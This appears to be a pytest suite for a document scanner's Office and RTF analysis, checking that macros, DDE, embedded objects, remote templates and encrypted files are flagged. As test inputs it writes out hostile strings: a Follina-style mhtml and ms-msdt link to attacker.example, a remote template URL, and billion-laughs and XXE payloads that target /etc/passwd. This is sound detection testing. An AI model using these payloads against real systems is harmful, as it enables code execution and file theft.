"""Office and RTF analysis of the oletools samples, in memory, in this process.

The engine runs the same :func:`analyze` in worker processes (``test_office_engine.py``);
here each document's findings are checked directly, so a failure names the document.
"""

from __future__ import annotations

import inspect
import io
import random
import zipfile

import pytest

from edgeward.config.scores import SCORE_TABLE
from edgeward.scanning.archives import is_encrypted_office
from edgeward.scanning.office_analysis import analyze, sniff
from edgeward.scanning.oletools_setup import lighten_scans
from edgeward.scanning.oletools_setup import olevba_mod as olevba
from tests.scanning.office_samples import names, sample


def findings(name: str) -> set[str]:
    return {finding for finding, _ in analyze(sample(name), name.rsplit("/", 1)[-1])}


def signatures(name: str, finding: str) -> list[str]:
    return [sig for f, sig in analyze(sample(name), name.rsplit("/", 1)[-1]) if f == finding]


@pytest.mark.parametrize(
    ("name", "keyword"),
    [
        ("oleform/oleform-PR314.docm", "Frame1_Click"),
        ("olevba/sample_with_vba.ppt", "Action_Click"),
        # Encrypted with Excel's built-in password, which opens without asking: still analysed.
        ("encrypted/autostart-encrypt-standardpassword.xls", "Auto_Open"),
        ("encrypted/autostart-encrypt-standardpassword.xlsm", "Auto_Open"),
        ("encrypted/autostart-encrypt-standardpassword.xlsb", "Auto_Open"),
    ],
)
def test_vba_with_auto_exec(name: str, keyword: str) -> None:
    assert {"AV_MACRO", "AV_MACRO_AUTOEXEC"} <= findings(name)
    assert keyword in signatures(name, "AV_MACRO_AUTOEXEC")


@pytest.mark.parametrize("name", names("excel4-macros"))
def test_excel4_macro_sheets(name: str) -> None:
    assert "AV_XLM_MACRO" in findings(name)


@pytest.mark.parametrize(
    "name",
    [
        "msodde/dde-test-from-office2003.doc.zip",
        "msodde/dde-test-from-office2016.doc.zip",
        "msodde/dde-test-from-office2013-utf_16le-korean.doc.zip",
        "msodde/dde-test.docx",
        "msodde/dde-test.docm",
        "msodde/dde-test.xlsx",
        "msodde/dde-test.xlsm",
        "msodde/dde-test.xlsb",
        "msodde/dde-in-excel2003.xml",
        "msodde/dde-in-csv.csv",
        "encrypted/dde-test-encrypt-standardpassword.xls",
        "encrypted/dde-test-encrypt-standardpassword.xlsx",
    ],
)
def test_dde(name: str) -> None:
    sigs = signatures(name, "AV_DDE")
    assert sigs and any("calc" in s.lower() for s in sigs)


@pytest.mark.parametrize(
    "name",
    [
        n
        for n in names("oleobj")
        if "embedded-simple-2007" in n and not n.endswith((".xml", ".odt", ".ods", ".odp"))
    ]
    + [
        "oleobj/sample_with_lnk_file.doc",
        "oleobj/sample_with_lnk_to_calc.doc",
        "oleobj/sample_with_lnk_file.ppt",
    ],
)
def test_embedded_ole_objects(name: str) -> None:
    sigs = signatures(name, "AV_OLE_OBJECT")
    assert any(s.startswith("package:") for s in sigs), sigs


def test_the_embedded_file_name_is_the_signature() -> None:
    assert "package:calc.exe" in signatures("oleobj/sample_with_lnk_to_calc.doc", "AV_OLE_OBJECT")
    assert "package:calc.lnk" in signatures("oleobj/sample_with_lnk_file.doc", "AV_OLE_OBJECT")


def test_rtf_objects() -> None:
    assert "AV_OLE_OBJECT" in findings("rtfobj/issue_251.rtf")
    assert "AV_OLE_OBJECT" in findings("rtfobj/issue_185.rtf.zip")


@pytest.mark.parametrize("name", names("oleobj/external_link"))
def test_external_objects_in_every_format(name: str) -> None:
    sigs = signatures(name, "AV_EXTERNAL_REFERENCE")
    assert sigs and all(s.startswith("oleObject:https://") for s in sigs)


@pytest.mark.parametrize(
    "name", ["encrypted/encrypted.doc", "encrypted/encrypted.xls", "encrypted/encrypted.ppt"]
)
def test_legacy_encrypted_documents_are_reported(name: str) -> None:
    assert analyze(sample(name), name) == [("ARCHIVE_ENCRYPTED", "encrypted office document")]


@pytest.mark.parametrize(
    "name",
    [
        n
        for n in names("encrypted")
        if "standardpassword" not in n and not n.endswith((".doc", ".xls", ".ppt"))
    ]
    + ["basic/encrypted.docx"],
)
def test_encrypted_ooxml_is_left_to_the_walk(name: str) -> None:
    # The walk reports it (its EncryptedPackage stream): reported once, not by two parts.
    data = sample(name)
    assert is_encrypted_office(data)
    assert "ARCHIVE_ENCRYPTED" not in {f for f, _ in analyze(data, name)}


@pytest.mark.parametrize(
    "name",
    [
        "msodde/harmless-clean.doc",
        "msodde/harmless-clean.docx",
        "msodde/harmless-clean.docm",
        "msodde/harmless-clean.xml",
        "msodde/harmless-clean-2003.xml",
        "msodde/RTF-Spec-1.7.rtf",
        "basic/text",
        "basic/empty",
        "other/presentation.xps",
    ],
)
def test_clean_documents_have_no_findings(name: str) -> None:
    assert analyze(sample(name), name) == []


def test_every_finding_is_in_the_score_table() -> None:
    seen = {f for folder in ("oleobj", "msodde", "excel4-macros", "encrypted", "olevba", "oleform")
            for n in names(folder) for f in findings(n)}  # fmt: skip
    assert seen - {"ARCHIVE_ENCRYPTED"} <= set(SCORE_TABLE)
    assert {"AV_MACRO", "AV_MACRO_AUTOEXEC", "AV_XLM_MACRO", "AV_DDE", "AV_OLE_OBJECT"} <= seen


def package(rels: str, *, content_types: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        if content_types:
            zf.writestr(
                "[Content_Types].xml",
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            )
        zf.writestr(
            "word/document.xml",
            "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>",
        )
        zf.writestr("word/_rels/document.xml.rels", rels)
    return buffer.getvalue()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def rels(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="r1" Type="{REL}/{kind}" Target="{target}"{mode}/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{one}</Relationships>'


FOLLINA = "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html"


def test_follina_mhtml_and_ms_msdt_targets() -> None:
    assert analyze(package(rels("oleObject", FOLLINA)), "invoice.docx") == [
        ("AV_EXTERNAL_REFERENCE", f"oleObject:{FOLLINA}")
    ]
    msdt = rels("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force")
    assert [f for f, _ in analyze(package(msdt), "a.docx")] == ["AV_EXTERNAL_REFERENCE"]
    # The scheme counts without TargetMode too: Word follows it either way.
    assert analyze(package(rels("oleObject", FOLLINA, external=False)), "a.docx") != []


def test_remote_template_is_reported_and_a_plain_hyperlink_is_not() -> None:
    template = rels("attachedTemplate", "https://attacker.example/t.dotm")
    assert analyze(package(template), "a.docx") == [
        ("AV_EXTERNAL_REFERENCE", "attachedTemplate:https://attacker.example/t.dotm")
    ]
    assert analyze(package(rels("hyperlink", "https://example.org/")), "a.docx") == []
    # A template inside the package (no TargetMode) is ordinary.
    assert analyze(package(rels("attachedTemplate", "template.dotx", external=False)), "a.docx") == []


def test_a_zip_that_is_no_office_package_is_left_to_the_archive_walk() -> None:
    template = rels("attachedTemplate", "https://x.example/t")
    assert analyze(package(template, content_types=False), "a.zip") == []


HOSTILE_REL = '<Relationships><Relationship Type="x/attachedTemplate" TargetMode="External" Target="&{};"/>'


@pytest.mark.parametrize(
    "hostile",
    [
        # Billion laughs: defusedxml refuses entity declarations, nothing is expanded.
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>' + HOSTILE_REL.format("d") + "</Relationships>",
        # XXE: an external entity is never read.
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + HOSTILE_REL.format("x")
        + "</Relationships>",
    ],
)
def test_hostile_xml_in_relationships_is_not_expanded(hostile: str) -> None:
    found = analyze(package(hostile), "a.docx")
    assert not any("root:" in sig or "aaaa" in sig for _, sig in found)
    assert ("AV_EXTERNAL_REFERENCE", "attachedTemplate:") not in found


def test_sniff_reads_content_not_names() -> None:
    assert sniff(sample("msodde/harmless-clean.doc"), name="photo.jpg") == "ole"
    assert sniff(sample("msodde/harmless-clean.docx"), name="x.txt") == "zip"
    assert sniff(b"%PDF-1.7 ...", name="invoice.doc") is None
    assert sniff(b"a,b\n=1+1,2\n", declared_type="text/csv") == "csv"


SOURCES = ["oleform/oleform-PR314.docm", "msodde/dde-test.docx", "msodde/harmless-clean.doc",
           "encrypted/encrypted.docx", "rtfobj/issue_251.rtf", "excel4-macros/excel4_sample_macro.xls",
           "msodde/dde-in-excel2003.xml", "oleobj/embedded-simple-2007.ppt"]  # fmt: skip


@pytest.mark.parametrize("name", SOURCES)
def test_truncated_documents_never_raise(name: str) -> None:
    data = sample(name)
    for cut in sorted({1, 7, 8, 64, 511, 512, 513, 1536, len(data) // 3, len(data) // 2, len(data) - 1}):
        result = analyze(data[:cut], name)
        assert all(f in SCORE_TABLE or f == "ARCHIVE_ENCRYPTED" for f, _ in result)


@pytest.mark.parametrize(
    "magic",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"PK\x03\x04",
        b"{\\rtf1",
        b"ID;P",
        b"<?xml version='1.0'?><?mso-application progid=\"Word.Document\"?>",
        b"MIME-Version: 1.0\nContent-Type: multipart/related;",
    ],
)
def test_random_bytes_behind_office_magic_never_raise(magic: bytes) -> None:
    rng = random.Random(magic)
    for size in (0, 16, 600, 4096, 20_000):
        analyze(magic + rng.randbytes(size), "garbage.doc")


def test_flipped_bytes_in_real_documents_never_raise() -> None:
    rng = random.Random(10)
    for name in SOURCES:
        data = bytearray(sample(name))
        for _ in range(8):
            broken = bytearray(data)
            for _ in range(20):
                broken[rng.randrange(len(broken))] = rng.randrange(256)
            analyze(bytes(broken), name)


@pytest.mark.parametrize("detect", ["detect_autoexec", "detect_suspicious"])
@pytest.mark.parametrize("obfuscation", [None, "Hex", "Base64", "Dridex", "VBA expression"])
def test_olevba_finds_no_keyword_in_empty_code(detect: str, obfuscation: str | None) -> None:
    # What lets the analysis skip olevba's keyword loop on empty code: its own answer there.
    lighten_scans()
    original = inspect.unwrap(getattr(olevba, detect))
    assert original is not getattr(olevba, detect)
    assert original("", obfuscation) == []


def test_keywords_hidden_in_hex_strings_are_still_found_after_lightening() -> None:
    lighten_scans()
    code = 'Sub AutoOpen()\n  x = "' + b"Shell".hex() + '"\nEnd Sub\n'
    results = olevba.VBA_Scanner(code).scan()
    assert ("AutoExec", "AutoOpen") in [(kind, keyword) for kind, keyword, _ in results]
    hidden = [desc for kind, keyword, desc in results if kind == "Suspicious" and keyword == "Shell"]
    assert hidden and all("Hex" in desc for desc in hidden)
